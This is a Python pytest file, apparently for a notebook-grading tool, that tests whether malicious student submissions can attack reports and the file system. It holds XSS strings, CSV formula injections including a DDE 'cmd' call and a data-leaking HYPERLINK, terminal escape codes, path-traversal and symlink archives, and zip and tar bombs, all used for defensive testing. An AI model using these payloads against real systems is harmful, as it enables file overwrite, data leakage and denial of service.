"""Attacks on what surrounds the sandbox: archives, links, reports, tables and terminals."""

import csv
import io
import os
import tarfile
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from lectern.course import Course
from lectern.grading import Result, grade_jobs
from lectern.marks import counted_chapters, sheet_of
from lectern.notebooks import LARGEST
from lectern.policy import Policy
from lectern.report import write_reports
from lectern.submissions import find_submissions
from lectern.tally import rows_of

from . import unprotected
from .attack import fingerprint
from .trials import Wall

MIB = 1 << 20
PAYLOADS = {
    "a script": "<script>alert(1)</script>",
    "an image with a handler": "<img src=x onerror=alert(1)>",
    "the end of a text and a script": "</pre></td></html><svg/onload=alert(1)>",
    "a formula": '=HYPERLINK("http://example.org/?"&A1,"grade")',
    "a formula after a space": "  @SUM(1+1)*cmd|' /C calc'!A0",
    "a formula after a line": "\t+1+1",
    "a terminal's title": "\x1b]0;owned\x07\x1b[2J\x1b[31mA",
    "text from right to left": "\u202egpj.exe\u2066",
}
RAW = ("<script>", "<img src", "<svg", "</pre></td>", "\x1b", "\x07", "\u202e", "\u2066")
each_payload = pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)


def starts_a_formula(table: str) -> bool:
    """Say if a program would compute a cell of a table instead of showing it."""
    return any(
        field.lstrip().startswith(("=", "+", "-", "@", "|", "%"))
        for row in csv.reader(io.StringIO(table))
        for field in row
    )


@each_payload
def test_without_care_it_reaches_a_report(payload: str, tmp_path: Path) -> None:
    said = unprotected.report(tmp_path, "mallory", payload.replace('"', "'"), payload)
    page, table = (tmp_path / "report.html").read_text(), (tmp_path / "grades.csv").read_text()
    assert any(raw in page + said for raw in RAW) or starts_a_formula(table)


def answers_with(payload: str) -> dict[str, str]:
    """Return cells that print, raise, return and are called what they should not."""
    return {
        "twice": f"def twice(x):\n    raise ValueError({payload!r})",
        "total": f"def total(x):\n    return {payload!r}",
        "step": f"{payload!r}\nclass E(Exception): pass\nE.__name__ = {payload!r}\n"
        "def step(*args):\n    raise E('')",
        "Counter": f"Counter = type({payload!r}, (), {{}})\nprint({payload!r})",
        "shape_of_product": f"def shape_of_product(a, b): return {{{payload!r}: {payload!r}}}\n"
        f"raise RuntimeError({payload!r})",
    }


@each_payload
def test_nothing_reaches_a_report_as_it_was(
    payload: str, wall: Wall, course: Course, hand_in: Callable[..., Path], tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    wall.mend()
    name = "mallory" + payload.replace("/", "∕").replace("\0", "")
    folder = hand_in(name, **answers_with(payload)).parent
    results: list[Result] = []
    jobs = find_submissions(folder, course)
    grade_jobs(course, jobs, lambda hides: wall.sandbox.session(), b"secret", results.append)
    chapters = counted_chapters(results, course, Policy())
    sheets = [sheet_of(result, chapters, course, Policy()) for result in results]
    rows = rows_of(sheets, [t for name in chapters for t in course.chapter(name)], {})
    write_reports(sheets, chapters, rows, tmp_path / "out")
    written = [path for path in (tmp_path / "out").rglob("*") if path.is_file()]
    assert any(path.suffix == ".html" for path in written)
    for path in written:
        text = path.read_bytes().decode()
        if path.suffix == ".html":
            assert not [raw for raw in RAW if raw in text], path
        if path.suffix == ".csv":
            assert not starts_a_formula(text)
        assert not [raw for raw in RAW[4:] if raw in text + path.name], path
    printed = capsys.readouterr()
    assert not [raw for raw in RAW if raw in printed.out + printed.err]


def tar_of(path: Path, *members: tuple[tarfile.TarInfo, bytes]) -> None:
    packed = {"mode": "w:gz", "compresslevel": 1} if path.suffix == ".tgz" else {"mode": "w"}
    with tarfile.open(path, **packed) as archive:  # type: ignore[call-overload]
        for info, content in members:
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))


def link(name: str, target: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = tarfile.SYMTYPE, target
    return info


def a_name_that_leads_out(folder: Path, notebook: bytes) -> None:
    tar_of(folder / "mallory.tar", (tarfile.TarInfo("../ada.ipynb"), notebook))


def an_absolute_name(folder: Path, notebook: bytes) -> None:
    tar_of(folder / "mallory.tar", (tarfile.TarInfo(str(folder / "ada.ipynb")), notebook))


def a_link_and_a_file_through_it(folder: Path, notebook: bytes) -> None:
    tar_of(
        folder / "mallory.tar", (link("out", str(folder)), b""),
        (tarfile.TarInfo("out/ada.ipynb"), notebook),
    )  # fmt: skip


def a_start_up_file(folder: Path, notebook: bytes) -> None:
    tar_of(folder / "mallory.tar", (tarfile.TarInfo("../conftest.py"), b"raise SystemExit"))


ARCHIVES = (
    a_name_that_leads_out,
    an_absolute_name,
    a_link_and_a_file_through_it,
    a_start_up_file,
)
each_archive = pytest.mark.parametrize("make", ARCHIVES, ids=lambda make: make.__name__)


@each_archive
def test_unpacked_without_care_an_archive_writes_elsewhere(
    make: Callable[..., None], tmp_path: Path
) -> None:
    (tmp_path / "ada.ipynb").write_bytes(b"of Ada")
    make(tmp_path, b"of Mallory")
    before = fingerprint(tmp_path)
    (tmp_path / "unpacked").mkdir()
    unprotected.unpack(tmp_path / "mallory.tar", tmp_path / "unpacked")
    after = fingerprint(tmp_path)
    assert {k: v for k, v in after.items() if not k.startswith("unpacked")} != before


@each_archive
def test_an_archive_writes_nothing_and_is_nobody_elses(
    make: Callable[..., None], tmp_path: Path, course: Course, notebook: Callable[..., bytes]
) -> None:
    folder = tmp_path / "submissions"
    folder.mkdir()
    (folder / "ada.ipynb").write_bytes(ada := notebook("first"))
    make(folder, notebook("first", twice="def twice(x): return 0"))
    before = fingerprint(tmp_path)
    jobs = {job.student: job for job in find_submissions(folder, course)}
    assert fingerprint(tmp_path) == before
    assert list(jobs["ada"].notebooks.values()) == [ada]


def zip_bomb(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for number in range(20):
            archive.writestr(f"{number}.ipynb", bytes(LARGEST - 10))


def tar_bomb(path: Path) -> None:
    """Write an archive with a header that wants to be read into memory at once."""
    info = tarfile.TarInfo("././@PaxHeader")
    info.type = tarfile.XHDTYPE
    tar_of(path, (info, bytes(9 * LARGEST)), (tarfile.TarInfo("first.ipynb"), b"{}"))


BOMBS = {"mallory.zip": zip_bomb, "mallory.tgz": tar_bomb}


@pytest.mark.parametrize("name", BOMBS)
def test_unpacked_without_care_a_small_archive_fills_disk_or_memory(
    name: str, tmp_path: Path
) -> None:
    BOMBS[name](tmp_path / name)
    assert (tmp_path / name).stat().st_size < LARGEST
    tracemalloc.start()
    unprotected.unpack(tmp_path / name, tmp_path / "unpacked")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    on_disk = sum(p.stat().st_size for p in tmp_path.rglob("*.ipynb"))
    assert peak + on_disk > 8 * LARGEST


@pytest.mark.parametrize("name", BOMBS)
def test_a_small_archive_fills_no_memory(name: str, tmp_path: Path, course: Course) -> None:
    folder = tmp_path / "submissions"
    folder.mkdir()
    BOMBS[name](folder / name)
    tracemalloc.start()
    jobs = find_submissions(folder, course)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 8 * LARGEST
    assert jobs[0].notes


def test_links_and_devices_beside_a_notebook_are_not_followed(
    tmp_path: Path, course: Course, notebook: Callable[..., bytes]
) -> None:
    folder = tmp_path / "submissions" / "mallory"
    folder.mkdir(parents=True)
    ada = tmp_path / "submissions" / "ada.ipynb"
    ada.write_bytes(notebook("first"))
    (folder / "first.ipynb").symlink_to(ada)
    (folder / "more").symlink_to(tmp_path / "submissions", target_is_directory=True)
    os.mkfifo(folder / "second.ipynb")
    assert (folder / "first.ipynb").read_bytes() == ada.read_bytes()  # as who follows links sees it
    jobs = {job.student: job for job in find_submissions(tmp_path / "submissions", course)}
    assert jobs["mallory"].notebooks == {}
    assert set(jobs["mallory"].problems) == {"first", "second"}
    assert list(jobs["ada"].notebooks) == ["first"]
